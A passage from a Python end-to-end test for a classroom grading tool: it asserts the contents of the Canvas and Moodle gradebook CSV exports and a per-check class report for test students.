        f"{students['wrong']}: {LESSON.stem}: check cell ex2-check was edited (autograde ran the original)"
    )

    with canvas.open() as f:
        rows = list(csv.reader(f))
    header, possible, body = rows[0], rows[1], {r[2]: r for r in rows[2:]}
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    total = header.index(f"{ASSIGNMENT} total")
    ex2 = header.index(f"{ASSIGNMENT} ex2-check")
    assert possible[0] == "Points Possible" and float(possible[total]) == auto_total + manual_total
    assert float(possible[ex2]) == auto["ex2-check"]
    in_order = [c.metadata["nbgrader"]["grade_id"] for c in lesson.cells
                if c.metadata.get("nbgrader", {}).get("grade")]
    assert header[5:total] == [f"{ASSIGNMENT} {g}" for g in in_order]
    for k, s in students.items():
        assert float(body[s][total]) == expected[k]
        assert body[s][0] == f"{names[k][1]}, {names[k][0]}" and body[s][3] == f"{s}@example.org"
    assert float(body[students["wrong"]][ex2]) == 0
    assert float(body[students["correct"]][ex2]) == auto["ex2-check"]
    with moodle.open() as f:
        mrows = {r["ID number"]: r for r in csv.DictReader(f)}
    for k, s in students.items():
        assert float(mrows[s][f"{ASSIGNMENT} total"]) == expected[k]
        assert mrows[s]["Email address"] == f"{s}@example.org"

    # The class report (issue 49; its own test, tests/classroom/test_class_report.py, covers the rest):
    # scores as the gradebook has them; per check, the correct and the wrong submission
    # pass (the wrong one fails ex2-check only) and the blank one fails in the visible part.
    classroom(class_dir, "report", ASSIGNMENT)
    out = settings.course_root / "reports" / ASSIGNMENT
    with (out / "students.csv").open() as f:
        report_rows = {r["student"]: r for r in csv.DictReader(f)}
    for k, s in students.items():
        assert float(report_rows[s]["score"]) == float(exported[s]["score"]), (k, report_rows[s])
    assert [k for k, s in students.items() if report_rows[s]["late (hours)"]] == ["wrong"]
    with (out / "checks.csv").open() as f:
        checks = {r["check"]: r for r in csv.DictReader(f)}
    assert set(checks) == {c for c in auto if c.endswith("-check")}
    for c, r in checks.items():
        assert int(r["passed"]) == (1 if c == "ex2-check" else 2), r
        assert int(r["failed_visible"]) == (2 if c == "ex2-check" else 1), r
    assert (out / "students.csv").stat().st_mode & 0o077 == 0

    (OUTPUT / "timing.txt").write_text(f"class end to end: {time.monotonic() - started:.0f} s\n")
    print(f"\nclass end to end: {time.monotonic() - started:.0f} s (screenshots in {OUTPUT})")
